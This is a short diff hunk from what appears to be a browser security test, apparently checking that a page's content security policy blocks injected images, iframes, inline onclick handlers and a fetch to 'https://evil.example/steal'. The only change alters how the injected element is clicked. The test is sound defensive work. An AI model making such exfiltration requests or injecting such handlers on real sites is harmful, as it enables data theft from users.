@@ -82,7 +82,7 @@ for (const path of ["/", NOT_FOUND.path])
         add("img", { src: "https://evil.example/a.png" });
         add("iframe", { src: "https://evil.example/frame" });
         document.body.insertAdjacentHTML("beforeend", `<b onclick="document.documentElement.dataset.handler = 'ran'">x</b>`);
-        document.querySelector("b:last-child")?.dispatchEvent(new MouseEvent("click"));
+        document.body.lastElementChild?.dispatchEvent(new MouseEvent("click"));
         const sent = await fetch("https://evil.example/steal").then(
           () => "sent",
           () => "blocked",
